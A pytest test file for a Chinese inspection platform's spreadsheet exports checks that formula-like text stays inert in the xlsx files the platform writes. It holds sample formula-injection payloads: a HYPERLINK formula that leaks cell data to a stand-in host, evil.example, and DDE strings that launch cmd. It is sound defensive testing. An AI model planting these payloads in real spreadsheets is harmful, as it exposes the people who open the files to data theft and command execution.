"""Issue 11 (5): text that looks like a spreadsheet formula stays text in every xlsx the platform writes."""

import io

import pytest
from openpyxl import load_workbook

from shuangsuiji.directory.models import InspectionObject
from tests import factories
from tests.conftest import login
from tests.directory.import_helpers import entity_row, headers, xlsx_bytes
from tests.inspections.helpers import drawn_selection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path


def formula_cells(content: bytes) -> list[str]:
    """Every cell a spreadsheet would evaluate, and every formula-like text not marked as text."""
    wb = load_workbook(io.BytesIO(content))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{ws.title}!{cell.coordinate} formula {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    if not cell.quotePrefix:
                        found.append(f"{ws.title}!{cell.coordinate} unquoted {cell.value!r}")
    return found


def texts(content: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(content))
    return {
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }


def test_directory_exports_keep_formula_like_names_as_text(client, alice):
    for n, name in enumerate(HOSTILE):
        factories.entity(name=name, address=HOSTILE[-1 - n], legal_rep="=1+1")
    factories.inspector(name="=cmd|'/C calc'!A0")
    login(client, alice)
    for url in ("/export/entities.xlsx", "/export/inspectors.xlsx"):
        r = client.get(url)
        assert r.status_code == 200, url
        assert formula_cells(r.content) == [], url
    assert set(HOSTILE) <= texts(client.get("/export/entities.xlsx").content)


def test_the_import_error_report_keeps_formula_like_cells_as_text(client, alice):
    login(client, alice)
    rows = [entity_row("not-a-code", name=name, **{"住所（经营场所）": "=1+2"}) for name in HOSTILE]
    f = io.BytesIO(xlsx_bytes(headers("entities"), rows))
    f.name = "名录.xlsx"
    r = client.post("/import/", {"kind": "entities", "file": f})
    assert r.status_code == 200 and not InspectionObject.objects.exists()
    report = client.get(f"/import/errors/{r.context['report_id']}.xlsx")
    assert formula_cells(report.content) == []
    # The first name went up as a real formula cell (openpyxl writes "=…" so), which the import does not evaluate.
    assert set(HOSTILE[1:]) <= texts(report.content)


def test_the_register_and_the_accountability_report_keep_formula_like_names_as_text(client, alice, olivia):
    selection = drawn_selection(alice)
    InspectionObject.objects.filter(pk=selection.object_id).update(name=HOSTILE[0], address=HOSTILE[1])
    login(client, alice)
    r = client.get(f"/draws/{selection.draw_id}/register.xlsx")
    assert r.status_code == 200
    assert formula_cells(r.content) == [] and HOSTILE[0] in texts(r.content)
    r = client.get("/accountability/report.xlsx")
    assert r.status_code == 200 and formula_cells(r.content) == []
